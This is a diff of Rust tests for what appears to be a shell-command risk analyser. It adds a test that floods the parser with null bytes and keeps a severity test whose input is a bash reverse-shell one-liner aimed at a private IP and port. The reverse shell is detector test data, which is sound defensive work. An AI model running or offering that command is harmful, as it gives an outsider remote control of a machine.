@@ -99,6 +99,14 @@ fn what_is_too_long_is_incomplete() {
 }
 
 #[test]
+fn what_would_keep_the_parser_busy_is_not_parsed() {
+    for script in ["\0".repeat(64 * 1024), format!("echo a{}", "\0;".repeat(20_000))] {
+        let findings = analyse(&script).findings;
+        assert!(findings.iter().any(|finding| finding.rule.id == "command_not_understood"), "{findings:?}");
+    }
+}
+
+#[test]
 fn severity_is_by_damage() {
     let worst = |command: &str| analyse(command).findings.iter().map(|finding| finding.severity).max();
     assert_eq!(worst("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some(Severity::Critical));
